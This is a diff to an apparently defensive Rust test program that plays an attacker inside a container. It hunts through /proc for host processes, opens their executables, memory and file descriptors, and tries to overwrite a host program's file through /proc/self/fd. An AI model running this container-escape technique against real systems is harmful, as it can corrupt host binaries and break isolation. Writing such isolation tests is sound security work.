@@ -1,6 +1,11 @@
 //! The attacker's side: this very test program, which is static, started in a container with a word in `MK_ATTACK`.
 
+use std::fs::File;
 use std::io::Write;
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::MetadataExt;
+use std::path::Path;
+use std::time::{Duration, Instant};
 
 /// How the program is started to act.
 pub(super) const WORDS: [&str; 4] = [
@@ -44,31 +49,70 @@ fn push() {
     });
 }
 
-/// Looks for processes whose program is not in this container, opens that, and tries to trace them, for three seconds.
+/// How long the hunter waits for prey.
+const HUNT: Duration = Duration::from_secs(8);
+
+/// Looks at every process that comes along, says which one of them it could get something out of that is the host's, and
+/// writes to the programs that it caught.
 fn hunt() {
-    let begin = std::time::Instant::now();
     say("hunting");
-    let mut caught = std::collections::BTreeSet::new();
-    while begin.elapsed() < std::time::Duration::from_secs(3) {
-        for entry in fs_err::read_dir("/proc").into_iter().flatten().flatten() {
-            let name = entry.file_name().to_string_lossy().into_owned();
-            if name.parse::<u32>().is_ok() && name != "1" {
-                caught.extend(catch(&name));
+    let begin = Instant::now();
+    let mut caught = std::collections::BTreeMap::new();
+    while begin.elapsed() < HUNT {
+        for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
+            let proc = entry.path();
+            let is_process = entry.file_name().to_string_lossy().parse::<u32>().is_ok();
+            if is_process && !proc.ends_with("1") {
+                caught.extend(catch(&proc));
             }
         }
     }
-    caught.iter().for_each(|text| say(text));
+    #[expect(
+        clippy::disallowed_methods,
+        reason = "this is how the program is told what to do"
+    )]
+    let below = std::env::var("MK_ATTACK_BELOW").unwrap_or_default();
+    for (what, program) in caught {
+        say(&format!("caught {what}"));
+        // Whatever a test catches by mistake is a program of this machine.
+        let is_prey = !below.is_empty() && what.starts_with(&below);
+        if let Some(program) = program.filter(|_| is_prey) {
+            overwrite(&program);
+        }
+    }
     say("done");
 }
 
-/// Opens what a process that is no program of the image holds.
-fn catch(pid: &str) -> Option<String> {
-    let proc = std::path::Path::new("/proc").join(pid);
-    let program = fs_err::read_link(proc.join("exe")).ok()?;
-    // A path that is not here, or is another file, is the host's.
-    let shown = program.display().to_string();
-    let foreign = !program.exists() || shown.contains("(deleted)") || shown.contains("memfd");
-    let opened = fs_err::File::open(proc.join("exe")).is_ok();
-    let memory = fs_err::File::open(proc.join("mem")).is_ok();
-    (foreign && (opened || memory)).then(|| format!("caught {shown}"))
+/// Opens what a process has that is not this container's: the file of a program that is not where its name says, or the
+/// memory and the files of one whose program cannot be told.
+fn catch(proc: &Path) -> Option<(String, Option<File>)> {
+    let named = match std::fs::read_link(proc.join("exe")) {
+        Ok(named) => named,
+        Err(refused) if refused.kind() == std::io::ErrorKind::PermissionDenied => {
+            let memory = File::options().read(true).write(true).open(proc.join("mem"));
+            // Their numbers tell nothing; what counts is what they lead to.
+            let mut files = std::fs::read_dir(proc.join("fd")).into_iter().flatten().flatten();
+            let open = memory.is_ok() || files.any(|file| std::fs::read_link(file.path()).is_ok());
+            return open.then(|| ("the memory or the files of a hidden one".into(), None));
+        }
+        // It has ended, and nobody has reaped it yet.
+        Err(_) => return None,
+    };
+    let program = File::open(proc.join("exe")).ok()?;
+    let found = program.metadata().ok()?;
+    let here =
+        std::fs::metadata(&named).is_ok_and(|here| (here.dev(), here.ino()) == (found.dev(), found.ino()));
+    // One without a name is gone with the last process that runs it.
+    (!here && found.nlink() > 0).then(|| (named.display().to_string(), Some(program)))
+}
+
+/// Writes to the file of a program as soon as nobody runs it.
+fn overwrite(program: &File) {
+    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
+    let written = (0..200).any(|_| {
+        std::thread::sleep(Duration::from_millis(10));
+        let opened = File::options().write(true).open(&path);
+        opened.and_then(|mut file| file.write_all(b"overwritten")).is_ok()
+    });
+    say(if written { "overwritten" } else { "not overwritten" });
 }
